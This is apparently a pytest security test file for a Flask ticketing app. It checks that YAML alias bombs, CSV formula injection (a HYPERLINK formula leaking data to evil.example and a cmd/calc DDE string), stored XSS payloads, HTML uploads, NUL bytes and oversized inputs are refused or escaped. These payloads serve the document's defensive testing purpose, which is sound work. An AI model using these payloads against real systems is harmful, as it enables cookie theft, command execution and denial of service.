"""Input and rendering attacks (issue 13: findings 2, 6, 7, 10 and part of 12), each as "attack → answer".

Every attack goes through the real HTTP entry point (the Flask test client) and runs on
SQLite and PostgreSQL; the answer is what a user or client sees, and the rows that did not change.
"""
from __future__ import annotations

import io
import json
import time
import tracemalloc

import pytest

from input_kit import (JsonServer, add_api, api_call, billion_laughs, counts, incident, make_api_app, run_scheduler,
                       service_id, submit, text_of, ticket_row)


# --- 6. YAML alias bombs ------------------------------------------------------------------

def _refused_quickly(send):
    """Run `send()`; it must answer in well under a second and without building the document."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        result = send()
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 2, f"took {elapsed:.1f} s"
    assert peak < 50 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
    return result


def test_alias_bomb_sent_to_import_service_is_refused_at_once(demo):
    make_api_app(demo)
    client, before = demo.test_client(), counts(demo)
    status, body = _refused_quickly(lambda: api_call(client, "import_service", key="bomb", name="炸弹",
                                                     workflow=billion_laughs()))
    assert status == 200 and body["result"] is False and body["code"] == 3900005
    assert "anchors and aliases" in body["message"] and ":1:" in body["message"]
    assert counts(demo) == before


def test_alias_bomb_in_the_flow_editors_live_validation_is_refused_at_once(browser):
    admin = browser("admin")
    response = _refused_quickly(lambda: admin.post("/admin/flow/validate/", {"source": billion_laughs()}))
    assert response.status_code == 200
    answer = response.get_json()
    assert answer["ok"] is False and "anchors and aliases" in answer["errors"][0]


def test_alias_bomb_in_flow_import_is_refused_at_once(browser, demo):
    admin, before = browser("admin"), counts(demo)
    response = _refused_quickly(lambda: admin.post("/admin/flow/import/", {"text": billion_laughs()}))
    assert response.status_code == 400
    assert "anchors and aliases" in text_of(response)
    assert counts(demo) == before


def test_an_anchor_in_an_otherwise_valid_flow_is_refused_naming_its_line(browser):
    source = ("key: f\nname: F\nservice_type: request\nnodes:\n"
              "  - {key: s, name: 提单, kind: start, fields: &fs [{key: title, name: 标题, type: STRING}]}\n"
              "  - {key: a, name: 审批, kind: manual, processors: {type: STARTER}, fields: *fs}\n"
              "  - {key: e, name: 结束, kind: end}\n"
              "transitions:\n  - {from: s, to: a}\n  - {from: a, to: e}\n")
    answer = browser("admin").post("/admin/flow/validate/", {"source": source}).get_json()
    assert answer["ok"] is False
    assert answer["errors"][0].startswith("<editor>:5:") and "anchors and aliases" in answer["errors"][0]


def test_a_document_nested_ten_thousand_deep_is_refused_not_a_crash(browser):
    admin = browser("admin")
    for source in ("[" * 10000 + "]" * 10000, '{\n\t"key": ' + "[" * 10000 + "]" * 10000 + "}"):
        answer = _refused_quickly(lambda: admin.post("/admin/flow/validate/", {"source": source})).get_json()
        assert answer["ok"] is False and "nested too deep" in answer["errors"][0]


def test_a_flow_document_over_one_mebibyte_is_refused(demo):
    make_api_app(demo)
    before = counts(demo)
    status, body = api_call(demo.test_client(), "import_service", key="big", name="大",
                            workflow="# " + "x" * (1024 * 1024) + "\nkey: big\n")
    assert body["code"] == 3900005 and "document too large" in body["message"]
    assert counts(demo) == before


# --- 12 (part). CSV formulas, notice HTML, attachment types ------------------------------------

def test_formula_in_a_service_name_is_neutralized_in_the_statistics_csv(browser, demo, make_service):
    flow = ("key: evil\nname: '=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")'\nservice_type: request\nnodes:\n"
            "  - {key: s, name: '@SUM(1+1)', kind: start, fields: [{key: title, name: 标题, type: STRING}]}\n"
            "  - {key: a, name: '-2+3', kind: manual, processors: {type: PERSON, value: [admin]}}\n"
            "  - {key: e, name: 结束, kind: end}\n"
            "transitions:\n  - {from: s, to: a}\n  - {from: a, to: e}\n")
    make_service(flow)
    alice = browser("alice")
    submit(alice, demo, "evil", {"title": "+cmd|' /C calc'!A0"})
    csv = browser("admin").get("/statistics/top_services.csv").get_data(as_text=True)
    assert "'=HYPERLINK(" in csv and "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"' in csv


def test_ticket_title_in_an_admin_notice_templates_html_block_is_escaped(browser, demo):
    from app.extensions import db
    from app.models import Notification, Ticket
    from app.services.notify.delivery import build_message

    admin = browser("admin")
    template = ("{% block subject %}待办 {{ ticket.title }}{% endblock %}{% block body %}{{ ticket.title }}{% endblock %}"
                "{% block html %}<p>单据 <b>{{ ticket.title }}</b></p>{% endblock %}")
    response = admin.post("/admin/notifysettings/template/todo/", {"source": template})
    assert response.status_code in (200, 302)
    ticket_id = submit(browser("alice"), demo, "account_apply",
                       {"title": "<img src=x onerror=alert(1)>", "system": "crm", "account_type": "permanent",
                        "reason": "工作需要"})
    with demo.app_context():
        ticket = db.session.get(Ticket, ticket_id)
        notice = db.session.query(Notification).filter_by(ticket_id=ticket_id, kind="todo").first()
        message = build_message(notice, ticket)
        db.session.remove()
    assert "<img" not in message.html and "&lt;img src=x onerror=alert(1)&gt;" in message.html
    assert "<b>" in message.html                          # the admin's own markup stays
    assert "<img src=x onerror=alert(1)>" in message.text   # plain text stays as typed


def test_attachment_uploaded_as_text_html_is_served_as_a_download_with_a_safe_type(browser, demo):
    alice = browser("alice")
    upload = (io.BytesIO(b"<script>alert(document.cookie)</script>"), "notes.txt", "text/html")
    ticket_id = submit(alice, demo, "incident_handle", incident(attachments=upload),
                       content_type="multipart/form-data")
    (stored,) = ticket_row(demo, ticket_id).values["attachments"]
    response = alice.get(f"/tickets/attachments/{stored['id']}")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/plain")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_attachment_with_an_extension_off_the_type_list_is_served_as_octet_stream(browser, demo):
    demo.config["UPLOAD_EXTENSIONS"].append("html")
    try:
        alice = browser("alice")
        upload = (io.BytesIO(b"<script>alert(1)</script>"), "page.html", "text/html")
        ticket_id = submit(alice, demo, "incident_handle", incident(attachments=upload),
                           content_type="multipart/form-data")
    finally:
        demo.config["UPLOAD_EXTENSIONS"].remove("html")
    (stored,) = ticket_row(demo, ticket_id).values["attachments"]
    response = alice.get(f"/tickets/attachments/{stored['id']}")
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


# --- 2. Stored XSS through automation ------------------------------------------------------

XSS = '<p>ok</p><img src=x onerror="alert(document.cookie)"><script>alert(1)</script><a href="javascript:alert(2)">x</a>'
AUTOMATED_FLOW = """
key: auto_report
name: 自动报告
service_type: request
nodes:
  - key: submit
    name: 提单
    kind: start
    fields:
      - {key: title, name: 标题, type: STRING, required: true}
      - {key: host, name: 主机, type: STRING}
  - key: lookup
    name: 查询 CMDB
    kind: api
    api: cmdb.lookup
    processors: {type: PERSON, value: [admin]}
    params:
      response: {report: data.report}
    fields:
      - {key: report, name: 报告, type: RICHTEXT}
  - key: copy
    name: 复制说明
    kind: automation
    plugin: set_fields
    params:
      fields: {summary: "主机 {{ fields.host }}"}
    fields:
      - {key: summary, name: 摘要, type: RICHTEXT}
  - key: review
    name: 复核
    kind: manual
    processors: {type: STARTER}
  - {key: end, name: 结束, kind: end}
transitions:
  - {from: submit, to: lookup}
  - {from: lookup, to: copy}
  - {from: copy, to: review}
  - {from: review, to: end}
"""


def _assert_no_script(html: str) -> None:
    """No live markup of the payload (escaped text, as a STRING field shows it, is harmless)."""
    for live in ('onerror="', "onerror=alert", "<script>alert", 'href="javascript:', "<img src=x"):
        assert live not in html, live


def test_html_an_api_node_writes_into_a_richtext_field_is_sanitized_before_it_is_stored_and_shown(
        browser, demo, make_service):
    server = JsonServer({"result": True, "data": {"report": XSS}})
    try:
        add_api(demo, server.url)
        make_service(AUTOMATED_FLOW)
        alice = browser("alice")
        ticket_id = submit(alice, demo, "auto_report", {"title": "查询主机", "host": "db01"})
        assert run_scheduler(demo) == 1 and run_scheduler(demo) == 1     # the api node, then the plugin
    finally:
        server.close()
    stored = ticket_row(demo, ticket_id).values["report"]
    assert "<p>ok</p>" in stored
    _assert_no_script(stored)
    for url in (f"/tickets/{ticket_id}", f"/tickets/{ticket_id}/print"):
        page = alice.get(url)
        assert page.status_code == 200 and "<p>ok</p>" in page.get_data(as_text=True)
        _assert_no_script(page.get_data(as_text=True))


def test_html_a_requester_smuggles_through_an_automation_plugin_into_richtext_is_sanitized(
        browser, demo, make_service):
    server = JsonServer({"result": True, "data": {"report": "<b>正常</b>"}})
    try:
        add_api(demo, server.url)
        make_service(AUTOMATED_FLOW)
        alice = browser("alice")
        ticket_id = submit(alice, demo, "auto_report", {"title": "查询主机", "host": XSS})
        run_scheduler(demo), run_scheduler(demo)
    finally:
        server.close()
    stored = ticket_row(demo, ticket_id).values["summary"]
    assert stored.startswith("主机 <p>ok</p>")
    _assert_no_script(stored)
    _assert_no_script(alice.get(f"/tickets/{ticket_id}").get_data(as_text=True))


def test_richtext_stored_unsanitized_before_the_fix_is_sanitized_when_shown(browser, demo):
    from app.extensions import db
    from app.infra.uow import commit
    from app.models import Ticket, TicketStep

    flow = ("key: rich\nname: 富文本\nservice_type: request\nnodes:\n"
            "  - {key: s, name: 提单, kind: start, fields: [{key: title, name: 标题, type: STRING},"
            " {key: body, name: 正文, type: RICHTEXT}]}\n"
            "  - {key: a, name: 审批, kind: manual, processors: {type: STARTER}}\n"
            "  - {key: e, name: 结束, kind: end}\n"
            "transitions:\n  - {from: s, to: a}\n  - {from: a, to: e}\n")
    from app.services.catalog.browse import ensure_service
    from app.services.flows.library import deploy_flow, save_flow_source

    with demo.app_context():
        row = save_flow_source(flow, by="test")
        version = deploy_flow(row.key, by="test")
        ensure_service(row.key, row.name, service_type="request", flow_version_id=version.id)
        commit()
    alice = browser("alice")
    ticket_id = submit(alice, demo, "rich", {"title": "旧数据", "body": "<p>旧</p>"})
    with demo.app_context():          # what an older version (or a direct database write) left behind
        ticket = db.session.get(Ticket, ticket_id)
        ticket.values = {**ticket.values, "body": XSS}
        step = db.session.query(TicketStep).filter_by(ticket_id=ticket_id, node_key="s").one()
        step.data = {**step.data, "body": XSS}
        commit()
    for url in (f"/tickets/{ticket_id}", f"/tickets/{ticket_id}/print"):
        page = alice.get(url).get_data(as_text=True)
        assert "<p>ok</p>" in page
        _assert_no_script(page)


# --- 7. NUL bytes, lone surrogates, huge numbers ---------------------------------------------

ACCOUNT = {"title": "申请 CRM 账号", "system": "crm", "account_type": "permanent", "reason": "工作需要"}


def _create_raw(client, fields: dict):
    """create_ticket with the JSON written by hand (a lone surrogate is legal JSON text: "\\ud800")."""
    body = json.dumps({"service_id": _account_service, "creator": "alice",
                       "fields": [{"key": k, "value": v} for k, v in fields.items()]})
    return api_call(client, "create_ticket", raw=body.encode())


_account_service = None


def _api(demo):
    global _account_service
    make_api_app(demo)
    _account_service = service_id(demo, "account_apply")
    return demo.test_client()


def test_lone_surrogate_in_a_text_field_sent_to_the_api_is_refused_and_nothing_is_stored(demo):
    client, before = _api(demo), counts(demo)
    status, body = _create_raw(client, {**ACCOUNT, "reason": "坏\ud800字"})
    assert status == 200 and body["code"] == 3900005 and "fields[3].value" in body["message"]
    assert counts(demo) == before


def test_nul_byte_in_api_parameters_is_refused_with_3900005(demo):
    client, before = _api(demo), counts(demo)
    status, body = _create_raw(client, {**ACCOUNT, "title": "标题\x00"})
    assert body["code"] == 3900005 and "NUL" in body["message"]
    status, body = api_call(client, "get_tickets", method="GET", creator="ali\x00ce")
    assert body["code"] == 3900005 and "creator" in body["message"]
    assert counts(demo) == before


@pytest.mark.parametrize("url", ["/tickets?q=%00", "/knowledge/?q=a%00b", "/tickets?q=%ED%A0%80%00"])
def test_nul_byte_in_a_search_answers_400_with_a_message_not_500(browser, url):
    response = browser("alice").get(url)
    assert response.status_code == 400 and "NUL" in text_of(response)


def test_nul_byte_in_the_login_form_answers_400_with_a_message_not_500(browser, password_of):
    anonymous = browser()
    response = anonymous.post("/login", {"username": "admin\x00", "password": password_of("admin")})
    assert response.status_code == 400 and "NUL" in text_of(response)


def test_nul_byte_in_a_submitted_form_answers_400_and_stores_nothing(browser, demo):
    before = counts(demo)
    response = browser("alice").post(f"/submit/{service_id(demo, 'account_apply')}", {**ACCOUNT, "reason": "a\x00b"})
    assert response.status_code == 400 and "NUL" in text_of(response)
    assert counts(demo) == before


@pytest.mark.parametrize("url", ["/tickets?page=99999999999999999999", "/knowledge/?page=99999999999999999999",
                                 "/submit?catalog=99999999999999999999",
                                 "/submit/1?related=99999999999999999999"])
def test_huge_page_or_id_parameter_answers_400_not_500(browser, url):
    response = browser("alice").get(url)
    assert response.status_code == 400 and "超出范围" in text_of(response)


@pytest.mark.parametrize("url", ["/submit/99999999999999999999", "/tickets/99999999999999999999",
                                 "/tickets/99999999999999999999/print", "/knowledge/99999999999999999999"])
def test_huge_id_in_the_path_is_no_page_404_not_500(browser, url):
    assert browser("alice").get(url).status_code == 404


# --- 10. Types converted silently, oversize values ----------------------------------------------

TYPED_FLOW = """
key: typed
name: 类型
service_type: request
nodes:
  - key: s
    name: 提单
    kind: start
    fields:
      - {key: title, name: 标题, type: STRING, required: true}
      - {key: note, name: 说明, type: TEXT}
      - {key: count, name: 数量, type: INT}
      - {key: urgent, name: 加急, type: CHECKBOX}
      - key: hosts
        name: 主机
        type: TABLE
        columns:
          - {key: ip, name: IP, required: true}
          - {key: role, name: 角色}
  - {key: a, name: 审批, kind: manual, processors: {type: STARTER}}
  - {key: e, name: 结束, kind: end}
transitions:
  - {from: s, to: a}
  - {from: a, to: e}
"""


@pytest.fixture
def typed(demo, make_service):
    make_api_app(demo)
    sid = make_service(TYPED_FLOW)

    def create(**fields):
        return api_call(demo.test_client(), "create_ticket", service_id=sid, creator="alice",
                        fields=[{"key": k, "value": v} for k, v in {"title": "类型测试", **fields}.items()])[1]

    create.service_id = sid
    return create


@pytest.mark.parametrize("fields, named", [
    ({"title": True}, "标题"),
    ({"title": ["a", "b"]}, "标题"),
    ({"note": ["一", "二"]}, "说明"),
    ({"note": {"a": 1}}, "说明"),
    ({"count": 1.5}, "数量"),
    ({"count": True}, "数量"),
    ({"count": [1]}, "数量"),
    ({"urgent": "no"}, "加急"),
    ({"urgent": 0}, "加急"),
    ({"hosts": [{"ip": "10.0.0.1"}, {"ip": ""}]}, "主机"),
    ({"hosts": [{"ip": "10.0.0.1", "port": 22}]}, "主机"),
    ({"hosts": ["10.0.0.1"]}, "主机"),
])
def test_a_value_of_the_wrong_json_type_is_refused_naming_the_field(typed, demo, fields, named):
    before = counts(demo)
    body = typed(**fields)
    assert body["result"] is False and body["code"] == 3900005 and f"【{named}】" in body["message"], body
    assert counts(demo) == before


def test_values_of_the_right_types_are_stored_as_sent(typed, demo):
    body = typed(note="说明", count=3, urgent=True, hosts=[{"ip": "10.0.0.1", "role": "db"}])
    assert body["result"] is True, body
    ticket = ticket_row(demo, body["data"]["id"])
    assert ticket.values["count"] == 3 and ticket.values["urgent"] is True
    assert ticket.values["hosts"] == [{"ip": "10.0.0.1", "role": "db"}]


def test_a_text_value_over_the_field_size_is_refused_through_the_api_and_the_web(typed, demo, browser):
    before = counts(demo)
    body = typed(note="字" * 30000)                  # 90,000 bytes of UTF-8: over the 64 KiB default
    assert body["code"] == 3900005 and "【说明】内容过大" in body["message"]
    response = browser("alice").post(f"/submit/{typed.service_id}", {"title": "大", "note": "x" * 70000})
    assert response.status_code == 400 and "【说明】内容过大" in text_of(response)
    assert counts(demo) == before


def test_an_api_body_over_the_configured_maximum_is_refused_before_it_is_read(typed, demo):
    before = counts(demo)
    body = typed(note="x" * (3 * 1024 * 1024))
    assert body["code"] == 3900005 and "请求体过大" in body["message"]
    assert counts(demo) == before
